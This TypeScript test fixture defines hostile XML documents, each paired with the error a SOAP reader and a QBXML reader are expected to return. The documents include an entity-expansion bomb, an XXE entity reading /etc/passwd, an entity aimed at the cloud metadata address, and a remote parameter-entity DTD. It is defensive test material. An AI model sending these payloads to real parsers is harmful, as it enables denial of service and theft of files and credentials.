/** Ten to the power of ten `lol`s, were it expanded. */
export const LAUGHS = `<!DOCTYPE x [<!ENTITY a "lol">${Array.from({ length: 10 }, (_, n) => {
  const inner = `&${n === 0 ? 'a' : `e${n - 1}`};`;
  return `<!ENTITY e${n} "${inner.repeat(10)}">`;
}).join('')}<!ENTITY x "&e9;">]>`;

/** A file of the machine, were it read. */
export const XXE = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>';

interface Hostile {
  /** The document, given how it begins, and the tags around its content. */
  readonly text: (head: string, open: string, close: string) => string;
  /** How each of the two readers refuses it. */
  readonly soap: RegExp;
  readonly qbxml: RegExp;
}

const withType = (doctype: string): Hostile => ({
  text: (head, open, close) => `${head.replace('?>', `?>${doctype}`)}${open}<a>&x;</a>${close}`,
  soap: /^A document type is not accepted\.$/,
  qbxml: /a document type is not accepted/,
});

/** Documents that harm readers of XML. */
export const hostile: Readonly<Record<string, Hostile>> = {
  'a bomb of entities': withType(LAUGHS),
  'a quadratic bomb': withType(`<!DOCTYPE x [<!ENTITY x "${'A'.repeat(50_000)}">]>`),
  'a file as an entity': withType(XXE),
  'an address as an entity': withType(
    '<!DOCTYPE x [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
  ),
  'a parameter entity': withType(
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p; <!ENTITY x "">]>',
  ),
  'a document type elsewhere': withType('<!DOCTYPE x SYSTEM "http://example.invalid/evil.dtd">'),
  'a document type of a few letters': withType('<!DOCTYPE x>'),
  'an entity that was not declared': {
    text: (head, open, close) => `${head}${open}<a>&x;</a>${close}`,
    soap: /^The request is not well-formed XML: .*undefined entity/,
    qbxml: /undefined entity/,
  },
  'elements nested 100,000 deep': {
    text: (head, open, close) => `${head}${open}${'<a>'.repeat(1e5)}${'</a>'.repeat(1e5)}${close}`,
    soap: /^An argument holds elements where text was expected\.$/,
    qbxml: /elements nest deeper than 64 levels/,
  },
  'a null byte': {
    text: (head, open, close) => `${head}${open}<a>\u0000</a>${close}`,
    soap: /^The request is not well-formed XML: .*disallowed character/,
    qbxml: /disallowed character/,
  },
  'a control character': {
    text: (head, open, close) => `${head}${open}<a>\u0008</a>${close}`,
    soap: /^The request is not well-formed XML: .*disallowed character/,
    qbxml: /disallowed character/,
  },
  'a character that is none': {
    text: (head, open, close) => `${head}${open}<a>&#xD800;</a>${close}`,
    soap: /^The request is not well-formed XML: /,
    qbxml: /malformed character entity/,
  },
};
